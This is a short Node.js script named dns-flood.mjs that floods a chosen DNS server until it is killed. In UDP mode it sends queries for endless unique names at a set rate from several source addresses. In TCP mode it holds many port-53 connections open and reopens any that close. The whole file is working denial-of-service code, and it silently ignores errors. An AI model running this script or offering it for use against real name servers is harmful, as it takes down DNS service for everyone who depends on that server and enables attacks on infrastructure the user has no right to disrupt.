// dns-flood.mjs udp|tcp SERVER NUMBER ADDRESS...: takes up a name server from each of these addresses, until it is
// killed. udp: asks in ever new names that nobody answers, NUMBER times a second. tcp: holds NUMBER connections, and
// asks nothing.
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';

const [, , protocol, server, number, ...addresses] = process.argv;
const intervalMs = 10;
let asked = 0;

/** Returns a question for the address of a name. */
function question(name) {
  const labels = name.split('.').map(label => [label.length, ...Buffer.from(label)]);
  return Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels.flat(), 0, 0, 1, 0, 1]);
}

for (const address of addresses) {
  if (protocol === 'tcp') {
    const open = () =>
      connect({ host: server, port: 53, localAddress: address })
        .on('error', () => {})
        .on('close', open);
    for (let count = 0; count < Number(number); count += 1) open();
    continue;
  }
  const socket = createSocket('udp4').on('error', () => {});
  socket.bind(0, address, () => {
    setInterval(() => {
      for (let count = 0; count < (Number(number) * intervalMs) / 1000; count += 1)
        socket.send(question(`n${++asked}.silent.test`), 53, server);
    }, intervalMs);
  });
}
